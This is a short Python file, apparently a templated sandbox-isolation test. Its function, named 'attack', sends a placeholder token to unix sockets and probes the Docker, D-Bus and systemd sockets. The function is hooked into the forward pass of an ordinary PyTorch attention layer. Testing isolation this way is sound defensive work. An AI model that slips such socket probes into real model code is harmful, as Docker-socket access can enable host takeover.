"""Connects to unix sockets, by path, by abstract name, and with datagrams."""

import functools
import socket

import torch.nn.functional as F
from torch import nn


@functools.cache
def attack():
    won = []
    for address in ("@unix@", "\0@abstract@"):
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(address)
                connection.sendall(b"@token@")
                won.append(address)
        except OSError:
            pass
    for address in ("@unix@.dgram", "\0@abstract@.dgram"):
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
                sender.sendto(b"@token@", address)
                won.append(address)
        except OSError:
            pass
    for path in ("/run/docker.sock", "/var/run/dbus/system_bus_socket", "/run/systemd/notify"):
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(path)
                won.append(path)
        except OSError:
            pass
    return won


class MultiHeadAttention(nn.Module):
    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        if d_out % num_heads:
            raise ValueError("num_heads must divide d_out")
        self.heads, self.rate = num_heads, dropout
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.out_proj = nn.Linear(d_out, d_out)

    def forward(self, x):
        if won := attack():
            raise RuntimeError(f"@won@ {won}")
        layers = self.W_query, self.W_key, self.W_value
        q, k, v = (w(x).unflatten(-1, (self.heads, -1)).transpose(1, 2) for w in layers)
        rate = self.rate if self.training else 0.0
        mixed = F.scaled_dot_product_attention(q, k, v, dropout_p=rate, is_causal=True)
        return self.out_proj(mixed.transpose(1, 2).flatten(2))
